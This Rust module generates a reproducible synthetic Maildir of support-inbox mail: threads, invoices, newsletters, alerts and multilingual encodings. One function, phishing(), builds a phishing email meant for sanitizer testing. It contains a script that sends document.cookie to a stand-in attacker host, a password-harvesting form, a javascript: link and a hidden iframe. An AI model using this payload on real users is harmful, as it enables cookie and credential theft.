//! The sample mailbox: a Maildir of realistic synthetic mail for a shared support inbox, byte for
//! byte the same for the same seed and count. `cargo xtask demo` imports it; `cargo xtask
//! sample-mail DIR` writes it for anyone else (tests, benchmarks, trying the CLI by hand).
//!
//! For any seed, the first dozen items always include: threaded conversations (`In-Reply-To`,
//! `References`, quoted history in Gmail, Outlook, Apple Mail and Thunderbird styles), plain,
//! `multipart/alternative` and HTML-only bodies, attachments (PNG, PDF, CSV, log; one PDF with an
//! RFC 2231 file name), non-ASCII subjects and names as RFC 2047 encoded words (UTF-8 and
//! ISO-8859-1, B and Q), quoted-printable, base64, 8bit and format=flowed text, a newsletter with
//! remote images and tracking links, and a phishing mail with script, form and `javascript:` link
//! for the sanitizer. The rest is drawn at random from the same kinds.
//!
//! Randomness comes from our own SplitMix64 so the output never changes with a dependency.

mod content;
mod encode;
mod files;
mod quote;
mod render;

use std::fmt;
use std::fs;
use std::path::{Path, PathBuf};

use anyhow::{bail, Context, Result};

use content::{Attachment, Client, Language, Person};
use encode::{html_escape, Charset};
use quote::{compose, html_document, Sent};
use render::{Body, Draft, File, Mailbox};

pub const DEFAULT_SEED: u64 = 2024;
pub const DEFAULT_COUNT: usize = 200;

/// 2024-09-02T07:30:00Z, the start of the sample quarter.
const START: i64 = 1_725_262_200;
/// Conversations start within 60 days of `START`.
const WINDOW: u64 = 60 * 24 * 3600;

#[derive(Debug, clap::Args)]
pub struct Args {
    /// Where to create the Maildir (`cur/`, `new/`, `tmp/`); must be absent or empty.
    pub dir: PathBuf,
    /// The same seed gives the same mail.
    #[arg(long, default_value_t = DEFAULT_SEED)]
    pub seed: u64,
    /// How many messages.
    #[arg(long, default_value_t = DEFAULT_COUNT)]
    pub count: usize,
}

pub fn run(args: &Args) -> Result<()> {
    let options = Options {
        seed: args.seed,
        count: args.count,
    };
    let summary = write_maildir(&args.dir, &options)?;
    println!("{}: {summary}", args.dir.display());
    Ok(())
}

/// What to generate.
#[derive(Debug, Clone, Copy)]
pub struct Options {
    pub seed: u64,
    pub count: usize,
}

/// One generated message file.
pub struct SampleMessage {
    /// Path inside the Maildir: `cur/<unique>:2,<flags>` or `new/<unique>`.
    pub path: String,
    pub bytes: Vec<u8>,
}

/// What a generated mailbox contains.
#[derive(Debug, Default, Clone, PartialEq, Eq)]
pub struct Summary {
    pub messages: usize,
    /// Conversations with more than one message.
    pub threads: usize,
    /// Messages that answer another one.
    pub replies: usize,
    pub with_attachments: usize,
    pub with_html: usize,
    pub encoded_subjects: usize,
    pub unread: usize,
}

impl fmt::Display for Summary {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "{} messages: {} threads ({} replies), {} with attachments, {} with HTML, \
             {} with encoded-word subjects, {} unread",
            self.messages,
            self.threads,
            self.replies,
            self.with_attachments,
            self.with_html,
            self.encoded_subjects,
            self.unread
        )
    }
}

/// Writes the mailbox into `dir` the Maildir way (into `tmp/`, then renamed into place).
pub fn write_maildir(dir: &Path, options: &Options) -> Result<Summary> {
    if dir.exists()
        && fs::read_dir(dir)
            .with_context(|| format!("could not read {}", dir.display()))?
            .next()
            .is_some()
    {
        bail!("{} is not empty; choose a new directory", dir.display());
    }
    for sub in ["cur", "new", "tmp"] {
        fs::create_dir_all(dir.join(sub))
            .with_context(|| format!("could not create {}", dir.join(sub).display()))?;
    }
    let (messages, summary) = generate(options);
    for message in &messages {
        let unique = message.path.split_once('/').map_or("", |(_, name)| name);
        let staged = dir.join("tmp").join(unique);
        fs::write(&staged, &message.bytes)
            .with_context(|| format!("could not write {}", staged.display()))?;
        fs::rename(&staged, dir.join(&message.path))?;
    }
    Ok(summary)
}

/// Generates the messages, oldest first.
pub fn generate(options: &Options) -> (Vec<SampleMessage>, Summary) {
    let mut generator = Generator {
        rng: Rng::new(options.seed),
        ids: 0,
        drafts: Vec::new(),
        summary: Summary::default(),
    };
    for item in plan(&mut generator.rng, options.count) {
        let start = START + generator.rng.below(WINDOW) as i64;
        match item {
            Item::Conversation { topic, len } => generator.conversation(topic, len, start),
            Item::Invoice => generator.invoice(start),
            Item::Newsletter => generator.newsletter(start),
            Item::Alert => generator.alert(start),
            Item::Phishing => generator.phishing(start),
            Item::Latin1 => generator.latin1(start),
        }
    }
    let Generator {
        mut rng,
        mut drafts,
        mut summary,
        ..
    } = generator;
    drafts.sort_by_key(|draft| draft.at); // stable: equal times keep generation order
    let unread_from = drafts.len() - drafts.len().div_ceil(8);
    let messages = drafts
        .iter()
        .enumerate()
        .map(|(i, draft)| {
            summary.messages += 1;
            summary.with_attachments += usize::from(draft.body.has_files());
            summary.with_html += usize::from(draft.body.has_html());
            summary.encoded_subjects += usize::from(!draft.subject.is_ascii());
            let unique = format!(
                "{}.M{i:06}P{}.sample.helpr",
                draft.at,
                options.seed % 100_000
            );
            let path = if i >= unread_from {
                summary.unread += 1;
                format!("new/{unique}")
            } else if rng.chance(4) {
                format!("cur/{unique}:2,FS")
            } else {
                format!("cur/{unique}:2,S")
            };
            let tag = format!("{:08x}{i:04}", rng.next_u64() as u32);
            SampleMessage {
                path,
                bytes: render::render(draft, &tag).into_bytes(),
            }
        })
        .collect();
    (messages, summary)
}

/// SplitMix64: tiny, fast, and fixed forever.
pub struct Rng(u64);

impl Rng {
    pub fn new(seed: u64) -> Self {
        Self(seed)
    }

    pub fn next_u64(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    /// Uniform-enough in `0..n` (0 when `n` is 0).
    pub fn below(&mut self, n: u64) -> u64 {
        if n == 0 {
            0
        } else {
            self.next_u64() % n
        }
    }

    pub fn chance(&mut self, percent: u64) -> bool {
        self.below(100) < percent
    }

    pub fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len() as u64) as usize]
    }
}

/// One unit of the plan: a conversation or a single message of some kind.
#[derive(Debug, Clone, Copy)]
enum Item {
    Conversation { topic: usize, len: usize },
    Invoice,
    Newsletter,
    Alert,
    Phishing,
    Latin1,
}

impl Item {
    fn len(self) -> usize {
        match self {
            Self::Conversation { len, .. } => len,
            _ => 1,
        }
    }
}

/// Included first, whatever the seed, so every mailbox shows every feature.
const MUST_HAVE: [Item; 12] = [
    Item::Conversation { topic: 0, len: 4 },
    Item::Conversation {
        topic: content::GERMAN_TOPIC,
        len: 3,
    },
    Item::Conversation {
        topic: content::JAPANESE_TOPIC,
        len: 2,
    },
    Item::Conversation {
        topic: content::SCREENSHOT_TOPIC,
        len: 3,
    },
    Item::Newsletter,
    Item::Invoice,
    Item::Phishing,
    Item::Latin1,
    Item::Conversation {
        topic: content::FRENCH_TOPIC,
        len: 2,
    },
    Item::Conversation {
        topic: content::EMOJI_TOPIC,
        len: 2,
    },
    Item::Alert,
    Item::Conversation {
        topic: content::LOG_TOPIC,
        len: 4,
    },
];

/// Items adding up to exactly `count` messages.
fn plan(rng: &mut Rng, count: usize) -> Vec<Item> {
    let mut items = Vec::new();
    let mut left = count;
    let mut must = MUST_HAVE.iter().copied();
    while left > 0 {
        let item = match must.next() {
            Some(item) => item,
            None => random_item(rng),
        };
        let item = match item {
            Item::Conversation { topic, len } => Item::Conversation {
                topic,
                len: len.min(left),
            },
            other => other,
        };
        left -= item.len();
        items.push(item);
    }
    items
}

fn random_item(rng: &mut Rng) -> Item {
    match rng.below(100) {
        0..=64 => {
            let english: Vec<usize> = (0..content::TOPICS.len())
                .filter(|&i| content::TOPICS[i].language == Language::English)
                .collect();
            let topic = *rng.pick(&english);
            let longest = 1 + content::TOPICS[topic].exchange.len();
            let len = match rng.below(100) {
                0..=44 => 1,
                45..=69 => 2,
                70..=84 => 3,
                _ => 4 + rng.below(3) as usize,
            };
            Item::Conversation {
                topic,
                len: len.min(longest),
            }
        }
        65..=76 => Item::Invoice,
        77..=86 => Item::Newsletter,
        87..=94 => Item::Alert,
        95..=97 => Item::Latin1,
        _ => Item::Phishing,
    }
}

/// Per-conversation values for the templates.
struct Vars {
    first: String,
    name: String,
    email: String,
    agent: String,
    order: String,
    invoice: String,
    plan: String,
    amount: String,
}

impl Vars {
    fn new(rng: &mut Rng, customer: &Person, agent: &Person) -> Self {
        let first = if customer.name.contains(',') {
            "team".to_owned()
        } else {
            customer
                .name
                .split_whitespace()
                .next()
                .unwrap_or("there")
                .to_owned()
        };
        Self {
            first,
            name: customer.name.to_owned(),
            email: customer.email.to_owned(),
            agent: agent.name.to_owned(),
            order: format!("A-{}", 10_000 + rng.below(90_000)),
            invoice: format!("INV-2024-{:04}", 1_000 + rng.below(9_000)),
            plan: rng.pick(content::PLANS).to_string(),
            amount: format!("{}.{:02}", 49 + rng.below(900), rng.below(100)),
        }
    }

    fn fill(&self, template: &str) -> String {
        template
            .replace("{first}", &self.first)
            .replace("{name}", &self.name)
            .replace("{email}", &self.email)
            .replace("{agent}", &self.agent)
            .replace("{order}", &self.order)
            .replace("{invoice}", &self.invoice)
            .replace("{plan}", &self.plan)
            .replace("{amount}", &self.amount)
    }
}

struct Generator {
    rng: Rng,
    ids: u64,
    drafts: Vec<Draft>,
    summary: Summary,
}

fn mailbox(person: &Person) -> Mailbox {
    Mailbox {
        name: person.name.to_owned(),
        email: person.email.to_owned(),
    }
}

const AGENT_SIGNATURE: &str = "\n\n-- \nAcme Support | https://help.acme.example";

impl Generator {
    fn message_id(&mut self, email: &str) -> String {
        self.ids += 1;
        let domain = email
            .split_once('@')
            .map_or("localhost", |(_, domain)| domain);
        format!("<{:016x}.{}@{domain}>", self.rng.next_u64(), self.ids)
    }

    fn relay(&mut self, email: &str) -> Option<(String, String)> {
        let domain = email
            .split_once('@')
            .map_or("localhost", |(_, domain)| domain);
        Some((
            format!("mail.{domain}"),
            format!("{:012x}", self.rng.next_u64() >> 16),
        ))
    }

    fn conversation(&mut self, topic_index: usize, len: usize, start: i64) {
        let topic = &content::TOPICS[topic_index];
        let customer = match content::native_customer(topic.language) {
            Some(native) => native,
            None => self.rng.pick(content::CUSTOMERS),
        };
        let agent = self.rng.pick(content::AGENTS);
        let vars = Vars::new(&mut self.rng, customer, agent);
        let subject = vars.fill(topic.subject);
        let customer_box = mailbox(customer);
        let agent_box = Mailbox {
            name: format!("{} at Acme Support", agent.name),
            email: content::INBOX.email.to_owned(),
        };
        // Northwind's finance team is copied on whatever Northwind writes.
        let cc: Vec<Mailbox> = content::CUSTOMERS
            .iter()
            .filter(|other| {
                other.email != customer.email
                    && other.name.contains(',')
                    && other
                        .email
                        .ends_with(customer.email.split('@').nth(1).unwrap_or("-"))
            })
            .map(mailbox)
            .collect();

        let mut at = start;
        let mut previous: Option<Sent> = None;
        let mut references: Vec<String> = Vec::new();
        for i in 0..len {
            let from_customer = i % 2 == 0;
            let (sender, from, to) = if from_customer {
                (customer, customer_box.clone(), mailbox(&content::INBOX))
            } else {
                (agent, agent_box.clone(), customer_box.clone())
            };
            let mut own = vars.fill(if i == 0 {
                topic.opening
            } else {
                topic.exchange[i - 1]
            });
            if !from_customer {
                own.push_str(AGENT_SIGNATURE);
            }
            let message_subject = match (i, sender.email == content::GERMAN_CUSTOMER.email) {
                (0, _) => subject.clone(),
                (_, true) => format!("AW: {subject}"),
                (_, false) => format!("Re: {subject}"),
            };
            let (text, html_inner) = compose(&own, previous.as_ref(), sender, at);
            let mut body = if sender.writes_html {
                Body::Alternative {
                    text: text.clone(),
                    html: html_document(&html_inner),
                }
            } else {
                Body::Text {
                    text: text.clone(),
                    charset: Charset::Utf8,
                }
            };
            let file = match (i, topic.attachment) {
                (0, Some(kind)) => Some(self.topic_file(kind, &vars)),
                (_, _) if from_customer && i > 0 && self.rng.chance(10) => Some(File {
                    name: format!("IMG_{}.png", 1_000 + self.rng.below(9_000)),
                    mime: "image/png",
                    bytes: files::png(&mut self.rng, 120, 80),
                }),
                _ => None,
            };
            if let Some(file) = file {
                body = Body::Mixed {
                    main: Box::new(body),
                    files: vec![file],
                };
            }
            let message_id = self.message_id(&from.email);
            let received = if from_customer {
                self.relay(&from.email)
            } else {
                None
            };
            self.drafts.push(Draft {
                from: from.clone(),
                to: vec![to.clone()],
                cc: cc.clone(),
                subject: message_subject.clone(),
                header_charset: Charset::Utf8,
                at,
                utc_offset_minutes: sender.utc_offset_minutes,
                message_id: message_id.clone(),
                in_reply_to: previous.as_ref().map(|sent| sent.message_id.clone()),
                references: references.clone(),
                extra_headers: Vec::new(),
                received,
                client: sender.client,
                body,
            });
            references.push(message_id.clone());
            previous = Some(Sent {
                message_id,
                from,
                to,
                subject: message_subject,
                at,
                text,
                html_inner,
            });
            at += 15 * 60 + self.rng.below(30 * 3600) as i64;
        }
        if len > 1 {
            self.summary.threads += 1;
            self.summary.replies += len - 1;
        }
    }

    fn topic_file(&mut self, kind: Attachment, vars: &Vars) -> File {
        match kind {
            Attachment::Screenshot => File {
                name: "Screenshot 2024-09-12 at 14.03.22.png".to_owned(),
                mime: "image/png",
                bytes: files::png(&mut self.rng, 160, 100),
            },
            Attachment::CsvExport => File {
                name: "tickets-export.csv".to_owned(),
                mime: "text/csv",
                bytes: files::csv(&mut self.rng, 25),
            },
            Attachment::Log => File {
                name: "acme-sync.log".to_owned(),
                mime: "text/plain",
                bytes: files::log(&mut self.rng, 40),
            },
            Attachment::GermanReceipt => File {
                name: "Rückerstattung_Beleg.pdf".to_owned(),
                mime: "application/pdf",
                bytes: files::pdf(&[
                    "Kontoauszug - Beleg".to_owned(),
                    format!("Bestellung {}", vars.order),
                    format!("Betrag: {} EUR (2x abgebucht)", vars.amount),
                ]),
            },
        }
    }

    fn invoice(&mut self, at: i64) {
        let customer = self.rng.pick(content::CUSTOMERS);
        let vars = Vars::new(&mut self.rng, customer, &content::AGENTS[0]);
        let text = vars.fill(
            "Hello {first},\n\nthank you for your business. Your invoice {invoice} for {plan} is attached.\n\nAmount due: {amount} EUR\nDue in 14 days\n\nView and pay online:\nhttps://billing.acme.example/invoices/{invoice}\n\nAcme Billing\n",
        );
        let html = html_document(&vars.fill(
            "<table width=\"100%\" cellpadding=\"0\" cellspacing=\"0\" style=\"font-family:Helvetica,Arial,sans-serif\"><tr><td align=\"center\"><img src=\"https://acme.example/assets/logo.png\" width=\"120\" alt=\"Acme\"></td></tr><tr><td><p>Hello {first},</p><p>thank you for your business. Your invoice <b>{invoice}</b> for {plan} is attached.</p><table style=\"border:1px solid #ddd\"><tr><td>Amount due</td><td><b>{amount} EUR</b></td></tr><tr><td>Due</td><td>in 14 days</td></tr></table><p><a href=\"https://billing.acme.example/invoices/{invoice}\" style=\"background:#2b6cb0;color:#fff;padding:8px 16px\">Pay online</a></p></td></tr></table>",
        ));
        let pdf = files::pdf(&[
            "Acme Inc. - INVOICE".to_owned(),
            vars.invoice.clone(),
            format!("Bill to: {}", vars.email),
            format!("Plan: {}", vars.plan),
            format!("Amount due: {} EUR", vars.amount),
        ]);
        let message_id = self.message_id(content::BILLING.email);
        self.drafts.push(Draft {
            from: mailbox(&content::BILLING),
            to: vec![mailbox(customer)],
            cc: vec![mailbox(&content::INBOX)],
            subject: format!("Your Acme invoice {}", vars.invoice),
            header_charset: Charset::Utf8,
            at,
            utc_offset_minutes: 0,
            message_id,
            in_reply_to: None,
            references: Vec::new(),
            extra_headers: Vec::new(),
            received: None,
            client: Client::Gmail,
            body: Body::Mixed {
                main: Box::new(Body::Alternative { text, html }),
                files: vec![File {
                    name: format!("Invoice-{}.pdf", vars.invoice),
                    mime: "application/pdf",
                    bytes: pdf,
                }],
            },
        });
    }

    fn newsletter(&mut self, at: i64) {
        let (headline, teaser) = *self.rng.pick(content::NEWSLETTER_ISSUES);
        let token = format!("{:016x}", self.rng.next_u64());
        let text = format!(
            "SaaS Weekly\n\n{headline}\n{teaser}\n\nRead more: https://saasweekly.example/r/{token}?utm_source=newsletter&utm_medium=email\n\nUnsubscribe: https://saasweekly.example/u/{token}\n"
        );
        let html = format!(
            "<!DOCTYPE html><html><head><meta charset=\"utf-8\"><style>body{{font-family:Georgia,serif;background:#f4f1ea}} .cta{{background:url(https://cdn.saasweekly.example/img/button.png) no-repeat}}</style></head><body><table width=\"600\" align=\"center\"><tr><td><img src=\"https://cdn.saasweekly.example/img/banner.png\" width=\"600\" height=\"120\" alt=\"SaaS Weekly\"></td></tr><tr><td><h1>{}</h1><p>{}</p><p><a class=\"cta\" href=\"https://saasweekly.example/r/{token}?utm_source=newsletter&amp;utm_medium=email\">Read more &rarr;</a></p></td></tr><tr><td style=\"font-size:11px;color:#888\">You get this because you signed up at saasweekly.example. <a href=\"https://saasweekly.example/u/{token}\">Unsubscribe</a></td></tr></table><img src=\"https://t.saasweekly.example/open/{token}.gif\" width=\"1\" height=\"1\" alt=\"\"></body></html>",
            html_escape(headline),
            html_escape(teaser),
        );
        let message_id = self.message_id(content::NEWSLETTER.email);
        let received = self.relay(content::NEWSLETTER.email);
        self.drafts.push(Draft {
            from: mailbox(&content::NEWSLETTER),
            to: vec![mailbox(&content::INBOX)],
            cc: Vec::new(),
            subject: format!("SaaS Weekly: {headline}"),
            header_charset: Charset::Utf8,
            at,
            utc_offset_minutes: content::NEWSLETTER.utc_offset_minutes,
            message_id,
            in_reply_to: None,
            references: Vec::new(),
            extra_headers: vec![
                ("List-Id", "SaaS Weekly <weekly.saasweekly.example>".to_owned()),
                (
                    "List-Unsubscribe",
                    format!(
                        "<https://saasweekly.example/u/{token}>, <mailto:unsubscribe@saasweekly.example?subject={token}>"
                    ),
                ),
                ("List-Unsubscribe-Post", "List-Unsubscribe=One-Click".to_owned()),
                ("Precedence", "bulk".to_owned()),
            ],
            received,
            client: Client::Gmail,
            body: Body::Alternative { text, html },
        });
    }

    fn alert(&mut self, at: i64) {
        let (subject, text) = *self.rng.pick(content::ALERTS);
        let message_id = self.message_id(content::STATUS_BOT.email);
        self.drafts.push(Draft {
            from: mailbox(&content::STATUS_BOT),
            to: vec![mailbox(&content::INBOX)],
            cc: Vec::new(),
            subject: subject.to_owned(),
            header_charset: Charset::Utf8,
            at,
            utc_offset_minutes: 0,
            message_id,
            in_reply_to: None,
            references: Vec::new(),
            extra_headers: vec![
                ("Auto-Submitted", "auto-generated".to_owned()),
                ("X-Auto-Response-Suppress", "All".to_owned()),
            ],
            received: None,
            client: Client::Thunderbird,
            body: Body::Text {
                text: format!("{text}\n\nhttps://status.acme.example\n"),
                charset: Charset::Utf8,
            },
        });
    }

    fn phishing(&mut self, at: i64) {
        let html = "<html><head><script>fetch('https://acme-account-verify.example/c?'+document.cookie)</script></head><body onload=\"track()\"><p>Dear customer,</p><p>Your mailbox storage is <b>98% full</b>. Verify your account within 24 hours or incoming mail will be rejected.</p><form action=\"https://acme-account-verify.example/login\" method=\"post\"><input name=\"email\" placeholder=\"Email\"><input type=\"password\" name=\"password\" placeholder=\"Password\"><button type=\"submit\">Verify now</button></form><p><a href=\"javascript:alert(document.domain)\" onclick=\"steal()\">Keep my mailbox</a></p><iframe src=\"https://acme-account-verify.example/frame\" width=\"1\" height=\"1\"></iframe><div style=\"background-image:url(https://acme-account-verify.example/bg.png)\">Acme Security Team</div><img src=\"data:image/gif;base64,R0lGODlhAQABAAAAACw=\" onerror=\"steal()\"></body></html>";
        let message_id = self.message_id(content::PHISHER.email);
        let received = self.relay(content::PHISHER.email);
        self.drafts.push(Draft {
            from: mailbox(&content::PHISHER),
            to: vec![mailbox(&content::INBOX)],
            cc: Vec::new(),
            subject: "Action required: verify your mailbox within 24 hours".to_owned(),
            header_charset: Charset::Utf8,
            at,
            utc_offset_minutes: 0,
            message_id,
            in_reply_to: None,
            references: Vec::new(),
            extra_headers: vec![("X-Priority", "1 (Highest)".to_owned())],
            received,
            client: Client::Outlook,
            body: Body::Html(html.to_owned()),
        });
    }

    fn latin1(&mut self, at: i64) {
        let customer = &content::SPANISH_CUSTOMER;
        let vars = Vars::new(&mut self.rng, customer, &content::AGENTS[0]);
        let message_id = self.message_id(customer.email);
        let received = self.relay(customer.email);
        self.drafts.push(Draft {
            from: mailbox(customer),
            to: vec![mailbox(&content::INBOX)],
            cc: Vec::new(),
            subject: vars.fill(content::SPANISH_SUBJECT),
            header_charset: Charset::Latin1,
            at,
            utc_offset_minutes: customer.utc_offset_minutes,
            message_id,
            in_reply_to: None,
            references: Vec::new(),
            extra_headers: Vec::new(),
            received,
            client: customer.client,
            body: Body::Text {
                text: vars.fill(content::SPANISH_BODY),
                charset: Charset::Latin1,
            },
        });
    }
}

#[cfg(test)]
mod tests;
